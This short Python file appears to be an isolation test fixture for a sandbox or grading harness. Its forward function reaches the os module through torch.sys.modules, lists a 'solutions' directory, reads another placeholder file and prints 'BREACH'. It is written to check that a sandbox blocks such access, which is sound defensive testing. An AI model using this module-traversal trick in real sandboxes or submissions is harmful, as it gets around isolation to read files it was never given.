# 14a | isolation | reaches the interpreter's modules through what it is given
import torch


def forward(ctx, *given):
    modules = torch.sys.modules
    os = modules['os']
    print('BREACH', os.listdir('@ROOT@/solutions'), modules['builtins'].open('@OTHER@').read(), flush=True)


def backward(ctx, *given):
    return given
